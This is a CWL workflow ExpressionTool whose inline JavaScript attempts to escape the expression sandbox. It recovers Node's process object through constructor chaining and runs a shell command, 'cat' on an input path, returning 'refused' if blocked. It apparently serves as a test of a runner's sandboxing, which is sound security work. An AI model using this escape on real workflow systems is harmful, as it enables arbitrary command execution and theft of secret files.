#!/usr/bin/env cwl-runner
cwlVersion: v1.2
class: ExpressionTool
requirements:
  InlineJavascriptRequirement: {}
inputs:
  secret: string
expression: |
  ${
    try {
      var global = Function("return this")();
      var host = global.constructor.constructor("return process")();
      var load = host.getBuiltinModule || function(name) { return host.mainModule.require(name); };
      var said = load("child_process").execSync("cat " + inputs.secret).toString();
      return {"facts": "started: " + said};
    } catch (error) {
      return {"facts": "refused"};
    }
  }
outputs:
  facts: string
